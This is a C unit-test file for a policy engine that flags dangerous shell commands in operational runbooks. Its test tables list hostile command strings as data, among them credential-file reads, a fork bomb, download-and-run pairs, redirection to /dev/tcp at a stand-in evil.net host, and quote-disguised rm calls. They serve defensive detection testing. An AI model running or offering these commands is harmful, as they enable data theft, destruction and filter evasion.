/*-------------------------------------------------------------------------
 *
 * test_policy_rule.c
 *		Unit tests of the language of rules, and of what is checked by them.
 *
 *-------------------------------------------------------------------------
 */
#include "policy_case.h"

#include "core/json.h"
#include "core/policy_detect.h"
#include "core/policy_scan.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

/* A policy of one rule of severity warning, named "rule". */
static LearnPolicy *
policy_of(const char *rule)
{
	char text[4096];

	snprintf(text, sizeof(text),
			 "[{\"name\": \"rule\", \"severity\": \"warning\", "
			 "\"message\": \"found\", \"rule\": %s}]",
			 rule);
	return compiled(text);
}

/* Does a rule hold for a command of sh? */
static bool
holds(const char *rule, const char *command)
{
	LearnPolicy *policy = policy_of(rule);
	LearnFindings findings = findings_of(policy, LEARN_SHELL_SH, command);
	bool found = findings.count > 0;

	learn_findings_free(&findings);
	learn_policy_free(policy);
	return found;
}

/* What each member of a condition asks for, and what it does not. */
static const struct
{
	const char *rule;
	const char *yes;
	const char *no;
} conditions[] = {
	{"{\"program\": \"rm\"}", "/bin/rm x", "rmdir x"},
	{"{\"program\": [\"mkfs.*\"]}", "mkfs.ext4 x", "mkfs x"},
	{"{\"program\": \"@shells\"}", "dash x", "awk x"},
	{"{\"shell\": \"sh\"}", "a", ""},
	{"{\"shell\": [\"cmd\", \"sh\"], \"program\": \"a\"}", "a", "b"},
	{"{\"written\": \"/opt/*\"}", "/opt/x", "x /opt/x"},
	{"{\"option\": \"-r\"}", "a -xrf", "a r --r"},
	{"{\"option\": \"--recursive\"}", "a --rec", "a --recursively"},
	{"{\"option\": \"--recursive\"}", "a --recursive=yes", "a -- --recursive"},
	{"{\"option\": \"-delete\"}", "a -delete", "a -deleted -d"},
	{"{\"option\": \"-Recurse\"}", "a -rec", "a -recursed"},
	{"{\"option\": \"/s\"}", "a /q/S", "a /st s"},
	{"{\"value\": {\"-e\": \"0\"}}", "a -e 0", "a -e 1 0"},
	{"{\"value\": {\"-e\": \"0\"}}", "a -e0", "a -x0"},
	{"{\"value\": {\"--level\": [\"1\", \"2*\"]}}", "a --level=25",
	 "a --level 3 25"},
	{"{\"argument\": \"x*\"}", "a -b xy", "a -xy"},
	{"{\"argument\": \"-x\"}", "a -- -x", "a -x"},
	{"{\"word\": \"-x?\"}", "a -xy", "a -x"},
	{"{\"arguments\": {\"at_most\": 1}}", "a -b c", "a b c"},
	{"{\"arguments\": {\"at_least\": 2}}", "a b c", "a -b c"},
	{"{\"assigns\": \"X=*\"}", "X=1 a", "a X=1"},
	{"{\"redirects\": \"> /x*\"}", "a > /xy", "a < /xy"},
	{"{\"text\": \"~drop table~\"}", "a 'DROP\n TABLE x'", "a dropped tables"},
	{"{\"text\": \"a&b\"}", "x a b", "x a c"},
	{"{\"path\": \"/etc/shadow\"}", "a --file=/etc//./shadow", "a /etc"},
	{"{\"path\": \"/etc/shadow\"}", "a 'open(\"/etc/x/../shadow\")'",
	 "a /etc/shadow.txt"},
	{"{\"path\": \"/etc/shadow\"}", "a /e?c/sh*", "a '/e?c/sh*'"},
	{"{\"path\": \"/etc/shadow\"}", "a /etc/{passwd,shadow}",
	 "a /srv/{passwd,shadow}"},
	{"{\"path\": \"/etc/shadow\"}", "a @/etc/shadow", "a /etc/[a-r]hadow"},
	{"{\"path\": \"/etc/shadow\"}", "cd /etc; a shadow", "cd /srv; a shadow"},
	{"{\"path\": \"~/.ssh/*\"}", "a /root/.ssh/x", "a /srv/.ssh/x"},
	{"{\"path\": \"~/.ssh/*\"}", "a $HOME/.ssh/x", "a ~/.ssh/x/y"},
	{"{\"path\": \"~/.ssh/*\"}", "a ~app/.ssh/x", "a /home/.ssh/x"},
	{"{\"path\": \"**/.ssh/*\"}", "a srv/.ssh/x", "a srv/x.ssh/x"},
	{"{\"path\": \"@root\"}", "a /*", "a /x"},
	{"{\"path\": \"@system\"}", "a /usr/../etc/*", "a /etc/x"},
	{"{\"path\": \"@data\"}", "a /home/x/", "a /home/x/y"},
	{"{\"path\": \"@device\"}", "a of=/dev/sda1", "a of=/dev/null"},
	{"{\"path\": \"@variable\"}", "a $X/*", "a ${X:?}/*"},
	{"{\"path\": \"@variable\"}", "a /$X", "X=1; a /$X"},
	{"{\"path\": \"@variable\"}", "a \"${X}/\"", "read X; a \"${X}/\""},
	{"{\"writes\": \"/x\"}", "a >> /x", "a < /x"},
	{"{\"writes\": \"/x\"}", "tee -a /x", "cat /x"},
	{"{\"writes\": \"/x\"}", "cp a /x", "cp /x a"},
	{"{\"writes\": \"/x\"}", "cp -t /x a", "cp -t /y /x"},
	{"{\"writes\": \"/x\"}", "dd of=/x", "dd if=/x"},
	{"{\"writes\": \"/x\"}", "sed -i s/a/b/ /x", "sed s/a/b/ /x"},
	{"{\"writes\": \"/x\"}", "a 2>&1 > /x", "a 2>&1"},
	{"{\"removes\": \"/x\"}", "rm -f y /x", "ls /x"},
	{"{\"removes\": \"/x\"}", "mv /x y", "mv y /x"},
	{"{\"removes\": \"/x\"}", ": > /x", "echo a > /x"},
	{"{\"removes\": \"/x\"}", "cp /dev/null /x", "cp /dev/zero /x"},
	{"{\"removes\": \"/x\"}", "cat /dev/null > /x", ": >> /x"},
	{"{\"runs\": \"/x\"}", "sh /x", "cat /x"},
	{"{\"runs\": \"/x\"}", "sudo /x -y", "x"},
	{"{\"program\": \"b\", \"nesting\": \"substitution\"}", "a $(b)", "b"},
	{"{\"program\": \"b\", \"nesting\": \"none\"}", "b", "a $(b)"},
	{"{\"program\": \"b\", \"nesting\": \"remote\"}", "ssh h b", "sudo b"},
	{"{\"program\": \"b\", \"parent\": {\"program\": \"a\"}}", "a $(b)",
	 "a $(c $(b))"},
	{"{\"program\": \"b\", \"inside\": {\"program\": \"a\"}}", "a $(c $(b))",
	 "a; b"},
	{"{\"program\": \"a\", \"holds\": {\"program\": \"b\"}}", "a $(c $(b))",
	 "c $(b); a"},
	{"{\"program\": \"a\", \"feeds\": {\"program\": \"b\"}}", "a | c | sudo b",
	 "b | a; b"},
	{"{\"program\": \"b\", \"fed_by\": {\"program\": \"a\"}}",
	 "a | (c; sudo b)", "b | a"},
	{"{\"detector\": \"unknown-program\"}", "$x", "x $x"},
	{"{\"detector\": \"disguised-program\"}", "r''m x", "'rm' x"},
	{"{\"detector\": \"disguised-program\"}", "r\\m x", "\\rm x"},
	{"{\"detector\": \"disguised-program\"}", "a; /bin/r'm' x",
	 "a; '/opt/my app/run' x"},
	{"{\"detector\": \"unparsable\"}", "a 'b", "a 'b'"},
	{"{\"detector\": \"downloaded-file\"}", "curl -o a http://h; sh ./a",
	 "curl -o a http://h; sh b"},
	{"{\"detector\": \"downloaded-file\"}", "wget http://h/a; chmod +x a",
	 "wget http://h/a; cat a"},
	{"{\"detector\": \"written-file\"}", "echo a > /x; chmod +x /x",
	 "echo a > /x; cat /x"},
	{"{\"detector\": \"fork-bomb\"}", "f() { f | f; }; f",
	 "f() { f || g; }; f"},
	{"{\"foreign_host\": {}}", "a https://x.evil.net/y", "a https://db01/y"},
	{"{\"foreign_host\": {}}", "a http://u:p@8.8.4.4:80", "a 10.1.2.3"},
	{"{\"foreign_host\": {}}", "scp x me@evil.io:/y", "scp x me@$HOST:/y"},
	{"{\"foreign_host\": {}}", "a x=evil.net:443", "mail me@evil.net"},
	{"{\"foreign_host\": {}}", "a > /dev/tcp/evil.net/80", "a script.sh"},
	{"{\"foreign_host\": {}}", "a evil.net", "a https://www.example.com/"},
	{"{\"foreign_host\": {}}", "a https://evil.net", "a https://$X.evil.net"},
	{"{\"foreign_host\": {\"allowed\": [\"*.good.net\"]}}", "a good.net.ru",
	 "a x.good.net"},
	{"{\"any\": [{\"program\": \"a\"}, {\"program\": \"b\"}]}", "b", "c"},
	{"{\"all\": [{\"word\": \"a\"}, {\"word\": \"b\"}]}", "x b a", "x a"},
	{"{\"program\": \"a\", \"not\": {\"word\": \"b\"}}", "a c", "a b"},
};

static void
test_conditions(void **state)
{
	int wrong = 0;

	(void) state;
	for (size_t i = 0; i < COUNT(conditions); i++)
	{
		if (!holds(conditions[i].rule, conditions[i].yes))
		{
			print_error("%s\n  does not hold for %s\n", conditions[i].rule,
						conditions[i].yes);
			wrong++;
		}
		if (holds(conditions[i].rule, conditions[i].no))
		{
			print_error("%s\n  holds for %s\n", conditions[i].rule,
						conditions[i].no);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

/* Rules that cannot be used, and where that is said. */
static const struct
{
	const char *rules;
	const char *where;
} refused[] = {
	{"{}", ""},
	{"[{}]", ""},
	{"[{\"name\": \"A\"}]", "A"},
	{"[{\"name\": \"a--b\"}]", "a--b"},
	{"[{\"name\": \"a\", \"severity\": \"fatal\"}]", "a"},
	{"[{\"name\": \"a\", \"severity\": \"error\", \"message\": \"x\"}]", "a"},
	{"[{\"name\": \"a\", \"severity\": \"error\", \"message\": \"x\", "
	 "\"rule\": {}}]",
	 "a.rule"},
};

/* The same for what stands in "rule". */
static const struct
{
	const char *rule;
	const char *where;
} refused_conditions[] = {
	{"{\"programs\": \"a\"}", "rule.rule.programs"},
	{"{\"program\": []}", "rule.rule.program"},
	{"{\"program\": 1}", "rule.rule.program"},
	{"{\"program\": \"Rm\"}", "rule.rule.program"},
	{"{\"program\": \"/bin/rm\"}", "rule.rule.program"},
	{"{\"program\": \"@nothing\"}", "rule.rule.program"},
	{"{\"shell\": \"fish\"}", "rule.rule.shell"},
	{"{\"option\": \"r\"}", "rule.rule.option"},
	{"{\"value\": \"-r\"}", "rule.rule.value"},
	{"{\"value\": {\"-r\": []}}", "rule.rule.value"},
	{"{\"arguments\": {}}", "rule.rule.arguments"},
	{"{\"arguments\": {\"at_most\": -1}}", "rule.rule.arguments"},
	{"{\"arguments\": {\"at_most\": 1, \"x\": 1}}", "rule.rule.arguments"},
	{"{\"text\": \"DROP\"}", "rule.rule.text"},
	{"{\"path\": \"@nothing\"}", "rule.rule.path"},
	{"{\"nesting\": \"deep\"}", "rule.rule.nesting"},
	{"{\"detector\": \"magic\"}", "rule.rule.detector"},
	{"{\"foreign_host\": {\"x\": []}}", "rule.rule.foreign_host"},
	{"{\"not\": []}", "rule.rule.not"},
	{"{\"any\": {}}", "rule.rule.any"},
	{"{\"any\": [{\"program\": \"a\"}, {\"not\": {\"word\": 1}}]}",
	 "rule.rule.any[1].not.word"},
};

static void
expect_refused(const char *rules, const char *where)
{
	LearnPolicy *policy;
	LearnProblem problem = {"", ""};

	assert_int_equal(learn_policy_compile(rules, strlen(rules), &policy,
										  &problem),
					 LEARN_INVALID);
	assert_null(policy);
	assert_string_equal(problem.where, where);
	assert_true(problem.message[0] != '\0');
}

static void
test_refused(void **state)
{
	char text[1024];

	(void) state;
	for (size_t i = 0; i < COUNT(refused); i++)
		expect_refused(refused[i].rules, refused[i].where);
	for (size_t i = 0; i < COUNT(refused_conditions); i++)
	{
		snprintf(text, sizeof(text),
				 "[{\"name\": \"rule\", \"severity\": \"error\", "
				 "\"message\": \"x\", \"rule\": %s}]",
				 refused_conditions[i].rule);
		expect_refused(text, refused_conditions[i].where);
	}
}

/* How many findings a rule has in a runbook. */
static int
count_for(const char *rule, const char *text)
{
	LearnPolicy *policy = policy_of(rule);
	LearnFindings findings = {0};
	json_object *runbook;
	int count;

	assert_int_equal(learn_json_parse(text, strlen(text), &runbook, NULL),
					 LEARN_OK);
	assert_int_equal(learn_policy_check(policy, runbook, &findings), LEARN_OK);
	count = findings.count;
	learn_findings_free(&findings);
	json_object_put(runbook);
	learn_policy_free(policy);
	return count;
}

/* A command is one by whatever spelling of its name, whole or in words. */
static void
test_params(void **state)
{
	static const char *const params[] = {
		"{\"Command\": \"bad\"}",
		"{\"SHELL-COMMAND\": \"bad\"}",
		"{\"command\": [\"bad\", \"-x\"]}",
		"{\"command\": [{\"run\": [\"bad\"]}]}",
		"{\"cmd\": [\"sudo\", \"bad\"]}",
	};
	static const char wait[] =
		"{\"platform\": \"linux\", \"steps\": [{\"shell\": \"cmd\","
		" \"params\": {}, \"wait_for\": {\"command\": \"rem ; bad\"}}]}";
	char text[600] = "{\"steps\": [{\"params\": {\"cmd\": [";

	(void) state;
	/* More words than are looked at are not passed over in silence. */
	for (int i = 0; i < 100; i++)
		strcat(text, "\"a\",");
	strcat(text, "\"bad\"]}}]}");
	assert_int_equal(count_for("{\"detector\": \"unparsable\"}", text), 1);

	for (size_t i = 0; i < COUNT(params); i++)
	{
		snprintf(text, sizeof(text), "{\"steps\": [{\"params\": %s}]}",
				 params[i]);
		assert_int_equal(count_for("{\"program\": \"bad\"}", text), 1);
	}
	snprintf(text, sizeof(text), "{\"steps\": [{\"params\": %s}]}",
			 "{\"commands\": \"bad\", \"c\": \"bad\", \"command\": 7}");
	assert_int_equal(count_for("{\"program\": \"bad\"}", text), 0);
	assert_int_equal(count_for("{\"program\": \"bad\"}", wait), 1);
}

/* Everything in a runbook that a shell will read is looked at, once a step. */
static void
test_runbook(void **state)
{
	static const char text[] =
		"{\"id\": \"RB-X\", \"platform\": \"linux\", \"steps\": ["
		"{\"command\": \"bad; bad; bad\"},"
		"{\"command\": \"good\", \"wait_for\": {\"command\": \"bad\"}},"
		"{\"params\": {\"script\": \"bad\", \"other\": \"bad\"}},"
		"{\"command\": 7}, 8, {\"command\": \"echo bad\"}],"
		"\"rollback\": [{\"command\": \"bad\"}],"
		"\"verification\": {\"command\": \"x | bad\"}}";
	static const char url[] =
		"{\"verification\": {\"url\": \"https://evil.net/x\"}}";
	static const char *const places[] = {"steps[0].command",
										 "steps[1].wait_for.command",
										 "steps[2].params.script",
										 "rollback[0].command",
										 "verification.command"};
	LearnPolicy *policy = policy_of("{\"program\": \"bad\"}");
	LearnFindings findings = {0};
	json_object *runbook;

	(void) state;
	assert_int_equal(learn_json_parse(text, sizeof(text) - 1, &runbook, NULL),
					 LEARN_OK);
	assert_int_equal(learn_policy_check(policy, runbook, &findings), LEARN_OK);
	assert_int_equal(findings.count, COUNT(places));
	for (int i = 0; i < findings.count; i++)
	{
		assert_string_equal(findings.items[i].problem.where, places[i]);
		assert_string_equal(findings.items[i].name, "rule");
		assert_int_equal(findings.items[i].severity, LEARN_SEVERITY_WARNING);
	}
	assert_string_equal(findings.items[0].problem.message, "found: bad");
	learn_findings_free(&findings);
	json_object_put(runbook);
	assert_int_equal(learn_policy_check(policy, NULL, &findings), LEARN_OK);
	assert_int_equal(findings.count, 0);
	assert_int_equal(count_for("{\"foreign_host\": {}}", url), 1);
	assert_int_equal(count_for("{\"program\": \"a\"}", url), 0);
	learn_policy_free(policy);
}

/* The shell of a step is its own, or that of the platform. */
static void
test_shells(void **state)
{
	static const char rule[] = "{\"shell\": \"powershell\"}";

	(void) state;
	assert_int_equal(count_for(rule, "{\"platform\": \"windows\", "
									 "\"steps\": [{\"command\": \"a\"}]}"),
					 1);
	assert_int_equal(count_for(rule, "{\"platform\": \"linux\", "
									 "\"steps\": [{\"command\": \"a\"}]}"),
					 0);
	assert_int_equal(count_for(rule, "{\"platform\": \"windows\", \"steps\": "
									 "[{\"shell\": \"cmd\", "
									 "\"command\": \"a\"}]}"),
					 0);
	assert_int_equal(count_for(rule, "{\"steps\": [{\"shell\": "
									 "\"powershell\", \"command\": \"a\", "
									 "\"wait_for\": {\"command\": \"b\"}}]}"),
					 1);
}

/* What a runbook is about, in its own words. */
static void
test_about(void **state)
{
	static const char rule[] =
		"{\"program\": \"a\", \"not\": {\"about\": [\"firewall\"]}}";

	(void) state;
	assert_int_equal(count_for(rule, "{\"steps\": [{\"command\": \"a\"}]}"),
					 1);
	assert_int_equal(count_for(rule, "{\"id\": \"RB-FIREWALL-1\", "
									 "\"steps\": [{\"command\": \"a\"}]}"),
					 0);
	assert_int_equal(count_for(rule, "{\"incident_types\": "
									 "[\"x\", \"firewall_down\"], "
									 "\"steps\": [{\"command\": \"a\"}]}"),
					 0);
	assert_int_equal(count_for(rule, "{\"parameters\": {\"FIREWALL\": {}}, "
									 "\"steps\": [{\"command\": \"a\"}]}"),
					 0);
	assert_int_equal(count_for(rule, "{\"severity\": \"firewall\", "
									 "\"steps\": [{\"command\": \"a\"}]}"),
					 1);
}

/* A file that one step downloads and another runs. */
static void
test_downloads_between_steps(void **state)
{
	(void) state;
	assert_int_equal(
		count_for("{\"detector\": \"downloaded-file\"}",
				  "{\"steps\": [{\"command\": \"curl -o /srv/i http://h\"}, "
				  "{\"command\": \"ls\"}, {\"command\": \"sh /srv/i\"}]}"),
		1);
}

/* Many warnings may be cut off, but never what would keep a runbook back. */
static void
test_too_many(void **state)
{
	static const char rules[] =
		"[{\"name\": \"mild\", \"severity\": \"warning\", \"message\": \"m\", "
		"\"rule\": {\"program\": \"a\"}}, "
		"{\"name\": \"bad\", \"severity\": \"danger\", \"message\": \"m\", "
		"\"rule\": {\"program\": [\"a\", \"b\"]}}]";
	LearnPolicy *policy = compiled(rules);

	(void) state;
	for (int steps = 30; steps <= 60; steps += 30)
	{
		LearnFindings findings = {0};
		json_object *runbook = json_object_new_object();
		json_object *list = json_object_new_array();
		json_object *step = json_object_new_object();
		const LearnFinding *said;

		json_object_object_add(step, "command", json_object_new_string("a"));
		for (int i = 0; i < steps; i++)
			json_object_array_add(list, json_object_get(step));
		json_object_object_add(runbook, "steps", list);
		assert_int_equal(learn_policy_check(policy, runbook, &findings),
						 LEARN_OK);
		assert_int_equal(findings.count, LEARN_FINDINGS_MAX);
		said = finding_named(&findings, "too-many-findings");
		assert_int_equal(said != NULL, steps > 50);
		if (said != NULL)
			assert_int_equal(said->severity, LEARN_SEVERITY_ERROR);
		json_object_put(step);
		json_object_put(runbook);
		learn_findings_free(&findings);
	}
	learn_policy_free(policy);
}

/* Globs, as rules have them. */
static void
test_globs(void **state)
{
	static const struct
	{
		const char *glob;
		const char *text;
		bool as_text;
		bool as_path;
	} cases[] = {
		{"", "", true, true},
		{"a", "a", true, true},
		{"a", "ab", false, false},
		{"*", "a/b", true, false},
		{"**", "a/b", true, true},
		{"a*c", "abbc", true, true},
		{"a*c", "ab/c", true, false},
		{"a?c", "a/c", true, false},
		{"**/x", "a/b/x", true, true},
		{"**/*.d/*", "a/b.d/c", true, true},
		{"**/*.d/*", "a.d/b.d/c", true, true},
		{"**/*.d/*", "x/a.d/b/c", true, false},
		{"*a*b*c", "xaxbxbxc", true, true},
		{"*a*b*c", "xaxbxbx", false, false},
		{"/x/**", "/x", false, false},
	};

	(void) state;
	for (size_t i = 0; i < COUNT(cases); i++)
	{
		size_t length = strlen(cases[i].text);

		assert_int_equal(learn_policy_glob(cases[i].glob, cases[i].text,
										   length, false, false),
						 cases[i].as_text);
		assert_int_equal(learn_policy_glob(cases[i].glob, cases[i].text,
										   length, false, true),
						 cases[i].as_path);
	}
	assert_true(learn_policy_glob("aB*", "AbX", 3, true, false));
	assert_false(learn_policy_glob("aB*", "AbX", 3, false, false));
}

/* Whether two globs may stand for the same. */
static void
test_globs_meet(void **state)
{
	static const struct
	{
		const char *glob;
		const char *other;
		bool meet;
	} cases[] = {
		{"/etc/shadow", "/e*/sh*", true},
		{"/etc/shadow", "/e*", false},
		{"/etc/shadow", "/etc/shado[a-z]", true},
		{"/etc/shadow", "/etc/shado[!w]", false},
		{"/etc/shadow", "/etc/{a,shadow}", true},
		{"/etc/shadow", "/etc/?????", false},
		{"/etc/**", "/*/*/x", true},
		{"/etc/*", "/*/*/x", false},
		{"a*b", "*ab", true},
		{"a*b", "b*a", false},
		{"*", "", true},
	};

	(void) state;
	for (size_t i = 0; i < COUNT(cases); i++)
		assert_int_equal(learn_policy_globs_meet(cases[i].glob, cases[i].other,
												 strlen(cases[i].other)),
						 cases[i].meet);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_params),
		cmocka_unit_test(test_runbook),
		cmocka_unit_test(test_shells),
		cmocka_unit_test(test_about),
		cmocka_unit_test(test_downloads_between_steps),
		cmocka_unit_test(test_too_many),
		cmocka_unit_test(test_globs),
		cmocka_unit_test(test_globs_meet),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
